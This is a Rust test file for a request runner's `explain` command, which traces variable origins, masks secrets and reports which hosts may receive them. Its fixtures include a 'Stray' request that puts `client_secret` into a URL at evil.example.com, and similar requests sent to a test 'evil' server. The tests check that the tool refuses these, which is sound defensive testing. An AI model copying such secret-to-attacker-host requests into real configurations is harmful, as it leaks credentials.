//! `runner explain`: where each value of a request comes from, what is secret and why, where it may go. Nothing is sent.

use crate::support::leak::assert_no_secret;
use crate::support::runner::Runner;
use crate::support::server::{Answer, Server};

const SECRET: &str = "hunter2-of-the-test";

const COLLECTION: &str = r#"
    name: Box
    variables: {limit: 10, path: "/users/{{ user_id }}", sent: "key {{ client_secret }}"}
    defaults: {base_url: "{{ api_url }}"}
    requests:
      - name: Get a token
        when: access_token is undefined
        url: "{{ token_url }}"
        form: {client_id: "{{ client_id }}", client_secret: "{{ client_secret }}"}
        store: {access_token: $.access_token}
      - name: Get me
        url: /users/me
        query: {limit: "{{ limit }}"}
        auth: {bearer: "{{ access_token }}"}
        assert: {that: ["limit > {{ least }}"]}
        capture: {user_id: $.id}
      - group: Files
        requests:
          - name: Read
            url: "{{ path }}"
            auth: service
          - name: Stray
            url: "https://evil.example.com/x?k={{ client_secret | upper }}"
            headers: {X-Sent: "{{ sent }}"}
          - name: Ping
            url: https://status.example.com/
    "#;

const DEV: &str = r#"
    variables:
      api_url: https://api.example.com/2.0
      token_url: "{{ api_url }}/token"
      client_id: abc
      client_secret: !secret
      least: 1
    hosts: ["*.cdn.example.com"]
    auth:
      service: {bearer: "{{ client_secret }}"}
    "#;

fn project() -> Runner {
    Runner::new()
        .file("a.yaml", COLLECTION.replace("limit > {{ least }}", "limit > least"))
        .file("environments/dev.yaml", DEV)
        .file("environments/dev.local.yaml", format!("variables: {{client_secret: {SECRET}}}\n"))
        .arg("explain")
}

#[test]
fn every_value_is_told_with_its_origin() {
    let ran = project()
        .args(["a.yaml", "Get a token", "--env", "dev"])
        .expect_stdout(
            "
            POST Get a token  a.yaml:5

            request
              url            https://api.example.com/2.0/token
                             written {{ token_url }}
              when           access_token is undefined

            variables
              token_url      https://api.example.com/2.0/token  environments/dev.yaml:3
                             read in line 7
              client_id      abc                                environments/dev.yaml:4
                             read in line 8
              client_secret  ***                                environments/dev.local.yaml:1
                             secret: `!secret` at environments/dev.yaml:5; read in line 8
              access_token   not set
                             only this request gives it
                             read in line 6
              api_url        https://api.example.com/2.0        environments/dev.yaml:2
                             read by `token_url`

            where its secrets may go
              → https://api.example.com  `api_url`, environments/dev.yaml:2
                *.cdn.example.com        `hosts`, environments/dev.yaml:7
              it may carry its secret `client_secret` to https://api.example.com
            ",
        )
        .run();
    assert_no_secret(ran.all_output(), SECRET);
}

#[test]
fn a_value_that_a_run_brings_is_told_with_the_request_that_brings_it() {
    project()
        .args(["a.yaml", "Get me", "--env", "dev", "--var", "limit=20"])
        .expect_stdout(
            "
            GET Get me  a.yaml:10

            request
              url           https://api.example.com/2.0/users/me
                            written {{ api_url }}/users/me
              auth          bearer                                a.yaml:13

            variables
              api_url       https://api.example.com/2.0           environments/dev.yaml:2
                            read in line 3
              limit         20                                    --var
                            read in line 12, in line 14
              access_token  known in a run
                            stored by `Get a token`, a.yaml:9
                            secret: by its name; read in line 13
              least         1                                     environments/dev.yaml:6
                            read in line 14

            where its secrets may go
              → https://api.example.com  `api_url`, environments/dev.yaml:2
                *.cdn.example.com        `hosts`, environments/dev.yaml:7
              it may carry its secret `access_token` to https://api.example.com
            ",
        )
        .run();
    let stored = project()
        .file("environments/dev.local.yaml", "stored: {access_token: an-earlier-token}\n")
        .args(["a.yaml", "Get me", "--env", "dev"])
        .run_passing();
    let expected = "
  access_token  ***                                   stored in environments/dev.local.yaml
                secret: by its name
                replaced in a run: stored by `Get a token`, a.yaml:9
                read in line 13
";
    assert!(stored.stdout.contains(expected), "{}", stored.stdout);
    let path = project().args(["a.yaml", "Files / Read", "--env", "dev"]).run_passing();
    for expected in [
        "  url            https://api.example.com/2.0/users/{{ user_id }}\n                 written {{ api_url }}{{ path }}\n",
        "  auth           service: bearer                                  environments/dev.yaml:9\n",
        "  user_id        known in a run\n                 captured by `Get me`, a.yaml:15\n                 read by `path`\n",
        "  it may carry its secret `client_secret` to https://api.example.com\n",
    ] {
        assert!(path.stdout.contains(expected), "{expected:?} in {}", path.stdout);
    }
}

#[test]
fn a_refusal_is_told_before_it_happens() {
    let ran = project()
        .args(["a.yaml", "Stray", "--env", "dev"])
        .expect_stdout(
            "
            GET Files / Stray  a.yaml:21

            request
              url            ***
                             written https://evil.example.com/x?k={{ client_secret | upper }}

            variables
              client_secret  ***  environments/dev.local.yaml:1
                             secret: `!secret` at environments/dev.yaml:5; read in line 22, by `sent`
              sent           ***  a.yaml:2
                             secret: reads `client_secret`; read in line 23

            where its secrets may go
                https://api.example.com  `api_url`, environments/dev.yaml:2
                *.cdn.example.com        `hosts`, environments/dev.yaml:7
              a run refuses it (exit code 6): the secrets `client_secret`, `sent` may not go to `https://evil.example.com`
              if it is meant to go there, add `hosts: [evil.example.com]` to the environment
            ",
        )
        .run();
    assert_no_secret(ran.all_output(), SECRET);
    assert_no_secret(ran.all_output(), &SECRET.to_uppercase());
    let allowed = project().args(["a.yaml", "Stray", "--env", "dev", "--allow-host", "evil.example.com"]).run_passing();
    assert!(allowed.stdout.contains("  → evil.example.com         --allow-host\n"), "{}", allowed.stdout);
    assert!(allowed.stdout.contains("  it may carry its secrets `client_secret`, `sent` to https://evil.example.com\n"));
    let free = project().args(["a.yaml", "Ping", "--env", "dev"]).run_passing();
    assert!(free.stdout.ends_with("  it carries no secret, so it may go anywhere\n"), "{}", free.stdout);
}

/// A secret that is not set yet will be carried all the same.
#[test]
fn a_secret_that_is_not_set_is_judged_too() {
    for request in ["Stray", "Read"] {
        let runner = project().file("environments/dev.local.yaml", "").file(
            "a.yaml",
            "
            requests:
              - {name: Stray, url: 'https://evil.example.com/', headers: {X: '{{ client_secret }}'}}
              - {name: Read, url: 'https://evil.example.com/', auth: service}
            ",
        );
        let ran = runner.args(["a.yaml", request, "--env", "dev"]).run_passing();
        assert!(ran.stdout.contains("  client_secret  not set                    environments/dev.yaml:5\n"), "{}", ran.stdout);
        let refused = "a run refuses it (exit code 6): the secret `client_secret` may not go to `https://evil.example.com`";
        assert!(ran.stdout.contains(refused), "{}", ran.stdout);
    }
}

/// What `explain` says is what a run does.
#[test]
fn the_verdict_is_that_of_a_run() {
    let good = Server::start(|_| Answer::json(200, "{}"));
    let evil = Server::start(|_| Answer::json(200, "{}"));
    for (request, allowed) in [
        ("url: 'GOOD/', headers: {X: '{{ key }}'}", true),
        ("url: 'EVIL/', headers: {X: '{{ key }}'}", false),
        ("url: 'EVIL/', json: {x: '{{ made }}'}", false),
        ("url: 'EVIL/', auth: service", false),
        ("url: 'EVIL/', auth: {basic: {username: me, password: '{{ key }}'}}", false),
        ("url: 'EVIL/', when: 'key != \"\"'", false),
        ("url: 'EVIL/', when: key is defined", true),
        ("url: 'EVIL/', query: {x: '{{ plain }}'}", true),
        ("url: '{{ evil_url }}/', query: {x: '{{ key }}'}", false),
    ] {
        let request = request.replace("GOOD", &good.url()).replace("EVIL", &evil.url());
        let runner = Runner::new()
            .file(
                "a.yaml",
                format!("variables: {{made: 'x{{{{ key }}}}', evil_url: '{}'}}\nrequests: [{{{request}}}]\n", evil.url()),
            )
            .file(
                "environments/dev.yaml",
                format!(
                    "variables: {{api_url: '{}', key: !secret , plain: 1}}\nauth: {{service: {{bearer: '{{{{ key }}}}'}}}}\n",
                    good.url()
                ),
            )
            .file("environments/dev.local.yaml", "variables: {key: some-secret}\n");
        let ran = runner.args(["explain", "a.yaml", "--env", "dev"]).run_passing();
        assert_eq!(!ran.stdout.contains("a run refuses it (exit code 6)"), allowed, "{request}\n{}", ran.stdout);
        assert_eq!((good.connections(), evil.connections()), (0, 0), "{request}");
        let run = ran.again().args(["a.yaml", "--env", "dev", "--dry-run"]).run_unchecked();
        assert_eq!(run.exit, if allowed { 0 } else { 6 }, "{request}\n{}", run.all_output());
    }
}

#[test]
fn nothing_is_started() {
    let ran = project()
        .file("environments/dev.yaml", "sandbox: box\nvariables: {api_url: '{{ sandbox.url }}/2.0', token_url: '{{ api_url }}/t', client_id: 1, client_secret: '{{ sandbox.client_secret }}', least: 1}\nauth: {service: {bearer: x}}\n")
        .file("environments/dev.local.yaml", "")
        .args(["a.yaml", "Get a", "--env", "dev"])
        .run_passing();
    for expected in [
        "  url            [sandbox.url]/2.0/t\n",
        "  client_secret  ***                        environments/dev.yaml:2\n                 secret: reads `sandbox.client_secret`; read in line 8\n",
        "  → [sandbox.url]  `api_url`, environments/dev.yaml:2\n",
        "  it may carry its secret `client_secret` to [sandbox.url]\n",
    ] {
        assert!(ran.stdout.contains(expected), "{expected:?} in {}", ran.stdout);
    }
    assert_eq!(ran.files(), ["a.yaml", "environments/dev.local.yaml", "environments/dev.yaml"]);
}

#[test]
fn a_request_is_chosen_by_name_start_or_line() {
    for (words, title) in [
        (&["a.yaml", "Get me"][..], "GET Get me  a.yaml:10"),
        (&["a.yaml", "get m"], "GET Get me  a.yaml:10"),
        (&["a.yaml", "Files / Ping"], "GET Files / Ping  a.yaml:24"),
        (&["a.yaml", "Ping"], "GET Files / Ping  a.yaml:24"),
        (&["a.yaml", "files / p"], "GET Files / Ping  a.yaml:24"),
        (&["a.yaml", "a.yaml:12"], "GET Get me  a.yaml:10"),
        (&["a.yaml:12"], "GET Get me  a.yaml:10"),
        (&["a.yaml:10"], "GET Get me  a.yaml:10"),
        (&["a.yaml:9"], "POST Get a token  a.yaml:5"),
    ] {
        let ran = project().args(words.iter().copied()).args(["--env", "dev"]).run_passing();
        assert_eq!(ran.stdout.lines().next(), Some(title), "{words:?}");
    }
    let all = "          Get a token (a.yaml:5)
          Get me (a.yaml:10)
          Files / Read (a.yaml:18)
          Files / Stray (a.yaml:21)
          Files / Ping (a.yaml:24)
";
    for (words, message) in [
        (&["a.yaml"][..], format!("error: which request?\n  = help: requests:\n{all}")),
        (&["a.yaml", "zzzzzz"], format!("error: there is no request called `zzzzzz`\n  = help: requests:\n{all}")),
        (&["a.yaml:2"], format!("error: no request stands at line 2\n  = help: requests:\n{all}")),
        (&["a.yaml", "b.yaml:7"], format!("error: `b.yaml` is none of the collections\n  = help: requests:\n{all}")),
        (&["a.yaml", "Pnig"], "error: there is no request called `Pnig`\n  = help: did you mean `Ping`?\n".to_owned()),
        (
            &["a.yaml", "get"],
            "error: `get` may be one of several requests\n  = help: requests:\n          Get a token (a.yaml:5)\n          Get me (a.yaml:10)\n".to_owned(),
        ),
    ] {
        project().args(words.iter().copied()).args(["--env", "dev"]).expect_exit(2).expect_stderr(&message).run();
    }
}

#[test]
fn mistakes_are_told_as_by_check() {
    project()
        .file("a.yaml", "requests: [{name: A, url: '{{ api_ulr }}/'}]\n")
        .args(["a.yaml", "A", "--env", "dev"])
        .expect_exit(2)
        .expect_stderr(
            "
            error: undefined variable `api_ulr`
             --> a.yaml:1:31
              |
            1 | requests: [{name: A, url: '{{ api_ulr }}/'}]
              |                               ^^^^^^^ did you mean `api_url`?
            ",
        )
        .run();
}

#[test]
fn without_an_environment_what_it_must_give_is_said() {
    Runner::new()
        .file("a.yaml", "requests: [{name: A, url: '{{ api_url }}/x', auth: {bearer: '{{ key }}'}}]\n")
        .args(["explain", "a.yaml"])
        .env_var("RUNNER_SECRET_key", "some-secret")
        .expect_stdout(
            "
            GET A  a.yaml:1

            request
              url      {{ api_url }}/x
              auth     bearer           a.yaml:1

            variables
              api_url  not set
                       an environment or an earlier request must give it
                       read in line 1
              key      ***              RUNNER_SECRET_key
                       secret: given as one; read in line 1

            where its secrets may go
              it carries the secret `key`; where it goes is known in a run
            ",
        )
        .run();
}

/// The masker can't help with secrets this short.
#[test]
fn a_secret_is_no_value_to_show_however_short() {
    let ran = Runner::new()
        .file("a.yaml", "variables: {made: '{{ pin }}!'}\nrequests: [{url: '{{ api_url }}/', json: ['{{ pin }}', '{{ made }}', '{{ a_token }}']}]\n")
        .file("environments/dev.yaml", "variables: {api_url: 'https://api.example.com', pin: !secret }\n")
        .file("environments/dev.local.yaml", "variables: {pin: x7}\nstored: {a_token: y8}\n")
        .args(["explain", "a.yaml", "--env", "dev"])
        .run_unchecked();
    assert_eq!(ran.exit, 0, "{}", ran.all_output());
    assert!(!["x7", "y8"].iter().any(|secret| ran.stdout.contains(secret)), "{}", ran.stdout);
    assert_eq!(ran.stdout.matches("***").count(), 3, "{}", ran.stdout);
}
